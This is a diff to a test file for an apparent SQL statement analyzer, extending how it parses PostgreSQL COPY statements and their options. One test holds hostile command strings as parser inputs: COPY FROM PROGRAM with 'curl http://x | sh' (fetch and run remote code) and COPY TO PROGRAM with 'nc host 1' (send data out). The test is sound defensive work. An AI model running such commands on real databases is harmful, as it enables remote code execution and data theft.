@@ -86,7 +86,7 @@ describe('COPY', () => {
       tables: [t('t', 'write')],
       operations: [{ kind: 'copy_from', table: { schema: null, name: 't' }, has_where: false }],
       read_only: false,
-      copy: { direction: 'from', program: false, target: null, stdio: true, format: 'csv' },
+      copy: { direction: 'from', program: false, target: null, stdio: true, format: 'csv', relation: { schema: null, name: 't' }, columns: null, delimiter: null, null_string: null, quote: null, escape: null, header: null },
       utility: 'COPY',
     });
   });
@@ -101,8 +101,20 @@ describe('COPY', () => {
       ],
       operations: [],
       read_only: true,
-      copy: { direction: 'to', program: false, target: null, stdio: true, format: null },
+      copy: { direction: 'to', program: false, target: null, stdio: true, format: null, relation: { schema: 's', name: 't' }, columns: ['a', 'b'] },
     });
+  });
+
+  test('COPY options masking needs to find fields: delimiter, null, quote, escape, header', () => {
+    expect(one("COPY t TO STDOUT WITH (FORMAT csv, DELIMITER ';', NULL 'NA', QUOTE '\"', ESCAPE '\\', HEADER)").copy).toMatchObject({
+      format: 'csv',
+      delimiter: ';',
+      null_string: 'NA',
+      quote: '"',
+      escape: '\\',
+      header: true,
+    });
+    expect(one('COPY t TO STDOUT WITH (FORMAT csv, HEADER false)').copy?.header).toBe(false);
   });
 
   test('COPY (query) TO STDOUT reads the query tables', () => {
@@ -111,7 +123,7 @@ describe('COPY', () => {
       tables: [t('t', 'read'), t('u', 'read')],
       functions: [fn('f')],
       read_only: true,
-      copy: { direction: 'to', stdio: true, format: 'binary' },
+      copy: { direction: 'to', stdio: true, format: 'binary', relation: null, columns: null },
     });
   });
 
@@ -125,11 +137,11 @@ describe('COPY', () => {
   });
 
   test('PROGRAM and server files', () => {
-    expect(one("COPY t FROM PROGRAM 'curl http://x | sh'").copy).toEqual({ direction: 'from', program: true, target: 'curl http://x | sh', stdio: false, format: null });
+    expect(one("COPY t FROM PROGRAM 'curl http://x | sh'").copy).toEqual({ direction: 'from', program: true, target: 'curl http://x | sh', stdio: false, format: null, relation: { schema: null, name: 't' }, columns: null, delimiter: null, null_string: null, quote: null, escape: null, header: null });
     const toProgram = one("COPY t TO PROGRAM 'nc host 1'");
-    expect(toProgram.copy).toEqual({ direction: 'to', program: true, target: 'nc host 1', stdio: false, format: null });
+    expect(toProgram.copy).toEqual({ direction: 'to', program: true, target: 'nc host 1', stdio: false, format: null, relation: { schema: null, name: 't' }, columns: null, delimiter: null, null_string: null, quote: null, escape: null, header: null });
     expect(toProgram.read_only).toBe(false);
-    expect(one("COPY t FROM '/var/lib/x.csv' WITH (FORMAT csv)").copy).toEqual({ direction: 'from', program: false, target: '/var/lib/x.csv', stdio: false, format: 'csv' });
+    expect(one("COPY t FROM '/var/lib/x.csv' WITH (FORMAT csv)").copy).toEqual({ direction: 'from', program: false, target: '/var/lib/x.csv', stdio: false, format: 'csv', relation: { schema: null, name: 't' }, columns: null, delimiter: null, null_string: null, quote: null, escape: null, header: null });
     expect(one("COPY t TO '/tmp/out'")).toMatchObject({ kind: 'copy_to', read_only: false, copy: { target: '/tmp/out', stdio: false } });
   });
 });
